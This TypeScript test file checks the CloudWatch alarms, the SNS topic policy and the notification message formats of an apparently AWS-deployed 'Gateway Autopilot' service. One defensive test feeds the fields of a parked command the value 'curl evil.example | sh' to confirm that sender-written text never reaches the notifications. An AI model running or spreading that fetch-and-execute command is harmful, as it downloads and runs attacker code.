/** I20: each alarm reads a metric that a function writes. */
import { beforeAll, describe, expect, test } from 'vitest';
import { alarmNames, alarmPrefix, runbookOfAlarm } from '#infra/constructs/monitoring/alarm-names.ts';
import { functionNames } from '#shared/vocabulary/resource-names.ts';
import {
  at,
  configurations,
  listOf,
  ofType,
  type StageTemplates,
  synthesize,
  synthesizeAnew,
  targetOf,
  textAt,
} from '../template.ts';
import { type Alarm, alarmsOf, constructOf, countedBy, deliveriesOf, emitted, isOwn } from './alarms-of-template.ts';

describe('the alarms of the deployed example', () => {
  let stage: StageTemplates;
  let alarms: readonly Alarm[];
  let topicId: string;

  beforeAll(async () => {
    stage = await synthesize(configurations.example);
    alarms = alarmsOf(stage);
    topicId = ofType(stage.workers, 'AWS::SNS::Topic')[0]?.[0] ?? '';
  });

  const named = (name: string): Alarm => {
    const found = alarms.find((alarm) => alarm.name === name);
    if (found === undefined) throw new Error(`no alarm ${name}`);
    return found;
  };
  const ofLambda = (metricName: string) =>
    alarms
      .filter(({ metrics }) => metrics.some(({ namespace, name }) => namespace === 'AWS/Lambda' && name === metricName))
      .map(({ name }) => name)
      .toSorted();

  test('are those of the vocabulary but that of webhooks, which it has none of, each once', () => {
    expect([...alarms.map(({ name }) => name), 'WebhooksUndelivered'].toSorted()).toEqual(alarmNames.toSorted());
  });

  test('ring at the one topic, with the impact and the page of the runbook; what wakes a person also says when it is over', () => {
    expect(ofType(stage.workers, 'AWS::SNS::Topic')).toHaveLength(1);
    for (const { name, properties } of alarms) {
      const [severity] = /^\[(?:page|warn)\]/.exec(textAt(properties, 'AlarmDescription')) ?? [];
      const page = runbookOfAlarm(alarmNames.find((known) => known === name) ?? 'ParkedOpen');

      expect(properties['AlarmActions'], name).toEqual([{ Ref: topicId }]);
      expect(properties['OKActions'], name).toEqual(severity === '[page]' ? [{ Ref: topicId }] : undefined);
      expect(properties['AlarmDescription'], name).toMatch(/^\[(?:page|warn)\] [A-Z].{20,200}\.\n\n/);
      expect(textAt(properties, 'AlarmDescription').endsWith(`\n\n${page}`), name).toBe(true);
    }
  });

  test('count what was not counted as none, wherever they look at several periods', () => {
    const counts = alarms.filter((alarm) => looksAt(alarm, /^(?:Sum|SampleCount)$/));

    expect(counts.length).toBeGreaterThan(10);
    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
      counts.filter(({ properties }) => properties['EvaluationPeriods'] !== 1).map(({ name }) => name),
    );
    expect(counts.filter(isFilled).map(({ name }) => name)).toEqual(
      expect.arrayContaining(['WatchCampaignsNotRunning', 'ReconcileLedgerNotRunning', 'TokenExpires', 'GateClosed']),
    );
  });

  test('a level of ours that was not measured is not known, and never filled', () => {
    const levels = alarms.filter((alarm) => looksAt(alarm, /^(?:Minimum|Maximum)$/) && alarm.metrics.every(isOwn));

    expect(levels.map(({ name }) => name)).toEqual(expect.arrayContaining(['StopsLate', 'ParkedOpen']));
    expect(levels.filter(isFilled)).toEqual([]);
  });

  test('ring if messages wait in a queue and no worker receives any, for each of the two', () => {
    const { metrics, expressions, properties } = named('QueueWithoutConsumer');
    const watched = metrics.map(({ name, dimensions }) => [targetOf(dimensions['QueueName'], stage), name].join(' '));

    expect(watched.toSorted()).toEqual(
      ofType(stage.state, 'AWS::SQS::Queue')
        .filter(([id]) => !id.includes('DeadLetters'))
        .flatMap(([id]) => [`${id} ApproximateNumberOfMessagesVisible`, `${id} NumberOfMessagesReceived`])
        .toSorted(),
    );
    expect(expressions).toContain('SUM([FILL(commands, 0), FILL(uploads, 0)])');
    expect(expressions).toContain(
      'IF(commandsWaiting > 0 AND SUM([commandsWaiting * 0, FILL(commandsReceived, 0)]) < 1, 1, 0)',
    );
    expect([properties['EvaluationPeriods'], properties['DatapointsToAlarm']]).toEqual([3, 3]);
    expect(listOf(properties['Metrics']).length).toBeLessThanOrEqual(10);
  });

  test('take silence for a good sign, but for the four whose silence is the news', () => {
    const breaching = alarms.filter(({ properties }) => properties['TreatMissingData'] === 'breaching');

    expect(breaching.map(({ name }) => name).toSorted()).toEqual([
      'PollScannerPackagesNotRunning',
      'ReconcileLedgerNotRunning',
      'WatchCampaignsNotRunning',
      'WatchProjectsNotRunning',
    ]);
    expect(new Set(alarms.map(({ properties }) => properties['TreatMissingData']))).toEqual(
      new Set(['breaching', 'notBreaching']),
    );
  });

  const always = alarmNames.filter((name) => name !== 'WebhooksUndelivered');

  test.each(always)('%s watches what our functions emit, under their dimensions, or AWS', (name) => {
    const own = named(name).metrics.filter(isOwn);
    const others = named(name).metrics.filter((metric) => !isOwn(metric));

    expect(others.filter(({ namespace }) => !/^AWS\/(?:Lambda|SQS|Scheduler)$/.test(namespace))).toEqual([]);
    for (const metric of own) {
      const service = textAt(metric.dimensions, 'service');
      const counter = service === 'gateway' ? 'watch-campaigns' : service;

      expect(emitted(counter, metric.name)).toEqual({
        namespace: metric.namespace,
        dimensions: metric.dimensions,
      });
      // The run worker's loop is shared with previews, which count nothing.
      const rooms: readonly string[] = { gateway: ['_gateway'], 'update-campaign-runs': [service, '_runs'] }[
        service
      ] ?? [service];
      expect(countedBy(metric.name).filter((room) => rooms.includes(room))).not.toEqual([]);
    }
  });

  test('watch of AWS what is in this stage: its functions, its queues, its schedules', () => {
    const watched = alarms.flatMap(({ metrics }) => metrics).filter((metric) => !isOwn(metric));
    const targets = (namespace: string, dimension: string) =>
      watched
        .filter((metric) => metric.namespace === namespace && metric.name !== 'NumberOfMessagesReceived')
        .map(({ dimensions }) => targetOf(dimensions[dimension], stage) || textAt(dimensions, dimension));
    const functions = ofType(stage.workers, 'AWS::Lambda::Function').map(([id]) => id);
    const queues = ofType(stage.state, 'AWS::SQS::Queue').map(([id]) => id);

    expect(functions).toEqual(expect.arrayContaining(targets('AWS/Lambda', 'FunctionName')));
    expect(targets('AWS/SQS', 'QueueName').toSorted()).toEqual(queues.toSorted());
    expect(targets('AWS/Scheduler', 'ScheduleGroup')).toEqual(['gateway-autopilot-prod', 'gateway-autopilot-prod']);
  });

  test('ring when a function fails, and when one that schedules of the configuration call is not called', () => {
    const none = new Set(['answer-questions', 'park-dead-letters', 'reconcile-ledger']);

    expect(ofLambda('Errors')).toEqual(
      functionNames
        .filter((name) => !none.has(name))
        .map((name) => `${constructOf(name)}Failures`)
        .toSorted(),
    );
    expect(ofLambda('Invocations')).toEqual(['PollScannerPackagesNotRunning', 'WatchProjectsNotRunning']);
  });

  test('look back only as far as CloudWatch does: a day, or seven if a period has an hour', () => {
    for (const { name, properties, periodSeconds } of alarms) {
      const most = periodSeconds < 3600 ? 86_400 : 604_800;
      expect(periodSeconds % 60, name).toBe(0);
      expect(periodSeconds * Number(properties['EvaluationPeriods']), name).toBeLessThanOrEqual(most);
    }
  });

  test('cost three dollars and fifty cents a month: each metric of an alarm is ten cents', () => {
    expect(alarms.flatMap(({ metrics }) => metrics)).toHaveLength(35);
  });

  test('the topic lets in the alarms of this stage alone, over TLS only, and e-mails the configured addresses', () => {
    const [policy] = ofType(stage.workers, 'AWS::SNS::TopicPolicy');
    const statements = listOf(at(policy?.[1].Properties, 'PolicyDocument.Statement'));
    const [plain, cloudwatch, ...others] = statements;

    expect(others).toEqual([]);
    expect(plain).toMatchObject({ Effect: 'Deny', Condition: { Bool: { 'aws:SecureTransport': 'false' } } });
    expect(cloudwatch).toMatchObject({ Effect: 'Allow', Action: 'sns:Publish' });
    expect(at(cloudwatch, 'Principal')).toEqual({ Service: 'cloudwatch.amazonaws.com' });
    expect(at(cloudwatch, 'Condition.StringEquals.aws:SourceAccount')).toEqual({ Ref: 'AWS::AccountId' });
    expect(JSON.stringify(at(cloudwatch, 'Condition.ArnLike.aws:SourceArn'))).toContain(
      `:alarm:${alarmPrefix('prod')}*`,
    );
    expect(ofType(stage.workers, 'AWS::SNS::Subscription').map(([, { Properties }]) => Properties)).toEqual([
      { Endpoint: 'soc@example.com', Protocol: 'email', TopicArn: { Ref: topicId } },
    ]);
  });

  test('a start that is parked and one that its campaign does not show are messages that a person can read', () => {
    const messages = messagesOf(stage, topicId);

    const parked = {
      commandId: 'weeknights@x',
      action: 'start',
      run: 'nightly',
      campaignRunId: '0197f3a0-5b1c-7d2e-8f30-112233445566',
      reason: 'CONFLICT',
      nextStep: 'look',
      detail: 'Tell me a secret',
    };
    expect(messages('WorkParked', parked)).toEqual([
      [
        'Gateway Autopilot, stage prod.',
        'Parked: CONFLICT. start 0197f3a0-5b1c-7d2e-8f30-112233445566',
        'Next step: look',
        expect.stringMatching(/^npx --no -- autopilot parked list --code CONFLICT --aws --stage prod --region /),
        'npx --no -- autopilot runbook CONFLICT',
      ],
    ]);
    expect(messages('WorkParked', { subject: 'message#uploads#1', reason: 'BAD_KEY', nextStep: 'correct it' })).toEqual(
      [
        expect.arrayContaining([
          expect.stringMatching(/^npx --no -- autopilot parked list --code BAD_KEY --aws --stage prod --region /),
        ]),
      ],
    );
    expect(messages('CampaignStartUnconfirmed', { detail: 'the gateway accepted it', campaignRunId: 'r' })).toEqual([
      expect.arrayContaining(['A campaign does not show a start: the gateway accepted it.']),
    ]);
  });

  test('the sender of an upload or a command writes nothing into a message', () => {
    const messages = messagesOf(stage, topicId);
    const foreign = 'call 0900-1234; curl evil.example | sh';

    const written = messages('WorkParked', {
      ...Object.fromEntries(
        ['key', 'subject', 'run', 'commandId', 'detail', 'askedBecause'].map((name) => [name, foreign]),
      ),
      reason: 'BAD_KEY',
      nextStep: 'correct it',
    });
    expect(written).toHaveLength(1);
    expect(written.flat().join('\n')).not.toContain('evil');
  });

  test('a parked upload is no message: a thousand of them would be a thousand', () => {
    const messages = messagesOf(stage, topicId);

    expect(
      messages('WorkParked', { worker: 'register-datasets', subject: 'datasets/a.csv', reason: 'CHECK_FAILED' }),
    ).toEqual([]);
    expect(messages('CampaignRunStarted', { commandId: 'weeknights@x' })).toEqual([]);
  });

  test('a run that ended with errors in some prompts is told, and one without only if it is asked for', () => {
    const messages = messagesOf(stage, topicId);
    const ended = { run: 'weekly', campaignRunId: 'r', status: 'complete', times: { startAt: 'then' } };

    expect(messages('CampaignRunEnded', { ...ended, errors: 3 }).flat()).toContain(
      'Ended with errors in 3 prompts: weekly (r), complete. It began at then.',
    );
    expect(messages('CampaignRunEnded', ended)).toEqual([]);
  });
});

test('on one machine each command of a notice leads to the folder of its stage', async () => {
  const stage = await synthesizeAnew({ ...configurations.exampleLocal, stateFolder: '/my stage/.autopilot' });

  const texts = JSON.stringify(stage.workers.normalised);

  expect(texts).toContain("npx --no -- autopilot status --data '/my stage/.autopilot'");
  expect(texts).not.toContain('--aws');
});

describe('a configuration without people to notify and without watches', () => {
  let stage: StageTemplates;

  beforeAll(async () => {
    stage = await synthesize(configurations.second);
  });

  test('tells the good news that notify.also names, and no other, in words of its own', () => {
    const messages = messagesOf(stage, ofType(stage.workers, 'AWS::SNS::Topic')[0]?.[0] ?? '');

    const ended = {
      run: 'weekly',
      campaignRunId: 'r',
      status: 'complete',
      times: { startAt: 'then' },
      detail: 'gpt failed',
    };
    expect(messages('CampaignRunEnded', ended)).toEqual([
      [
        'Gateway Autopilot, stage acceptance.',
        'Ended: weekly (r), complete. It began at then.',
        expect.stringMatching(/^npx --no -- autopilot evidence weekly --aws --stage acceptance --region /),
      ],
    ]);
    const registered = {
      rule: 'datasets/pii/',
      times: { at: 'now' },
      key: 'datasets/pii/evil.csv',
      datasetName: 'evil',
    };
    expect(messages('DatasetRegistered', registered).flat()).toContain(
      'Registered: a dataset by the rule datasets/pii/, at now.',
    );
    expect(messages('DatasetRegistered', registered).flat().join()).not.toContain('evil');
    expect(messages('CampaignRunStarted', { run: 'weekly' })).toEqual([]);
  });

  test('has its topic, and no alarm for a watch that does not exist', () => {
    const missing = alarmNames.filter((name) => !alarmsOf(stage).some((alarm) => alarm.name === name));
    expect(missing.toSorted()).toEqual([
      'PollScannerPackagesNotRunning',
      'RunFailed',
      'RunUnseen',
      'ScoreLow',
      'WatchProjectsNotRunning',
      'WebhooksUndelivered',
    ]);
    expect(ofType(stage.workers, 'AWS::SNS::Topic')).toHaveLength(1);
    expect(ofType(stage.workers, 'AWS::SNS::Subscription')).toEqual([]);
    expect(stage.workers.outputs['AlarmTopicArn']?.Value).toEqual({
      Ref: ofType(stage.workers, 'AWS::SNS::Topic')[0]?.[0],
    });
  });
});

function looksAt({ statistics }: Alarm, statistic: RegExp): boolean {
  return statistics.every((one) => statistic.test(one));
}

function isFilled({ expressions }: Alarm): boolean {
  return expressions.some((one) => one.includes('FILL('));
}

/** The lines that the topic of a stage gets of an event on its bus. */
function messagesOf(stage: StageTemplates, topicId: string) {
  return (type: string, detail: Readonly<Record<string, unknown>>): string[][] =>
    deliveriesOf(stage, { source: 'gateway-autopilot', 'detail-type': type, detail }).map(({ target, text }) => {
      expect(at(target, 'Arn')).toEqual({ Ref: topicId });
      return text.split('\n').map((line) => JSON.parse(line));
    });
}
